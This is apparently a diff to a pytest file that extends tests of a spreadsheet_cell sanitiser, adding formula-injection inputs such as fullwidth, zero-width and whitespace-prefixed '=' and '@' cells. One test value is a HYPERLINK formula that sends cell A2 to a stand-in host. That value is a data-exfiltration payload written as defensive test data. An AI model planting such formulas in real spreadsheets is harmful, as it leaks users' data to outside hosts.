@@ -11,7 +11,20 @@ from skiptrace.safe_text import REPLACEMENT, spreadsheet_cell, terminal_text
 
 @pytest.mark.parametrize(
     "value",
-    ['=HYPERLINK("http://x/?leak="&A2,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
+    [
+        '=HYPERLINK("http://x/?leak="&A2,"click")',
+        "+1+2",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        " =HYPERLINK(1)",
+        "\n=1+1",
+        "\xa0=1",
+        "\u200b=1",
+        "\uff1d1+1",
+        "  \uff20SUM(A1)",
+    ],
 )
 def test_a_formula_becomes_text(value: str) -> None:
     assert spreadsheet_cell(value) == "'" + value
@@ -22,6 +35,7 @@ def test_ordinary_cells_are_untouched_and_no_cell_starts_a_formula(value: str) -
     safe = spreadsheet_cell(value)
     assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
     assert safe in (value, "'" + value)
+    assert safe == value or not value[:1].isalnum()  # a cell starting with a letter is left
 
 
 @pytest.mark.parametrize(
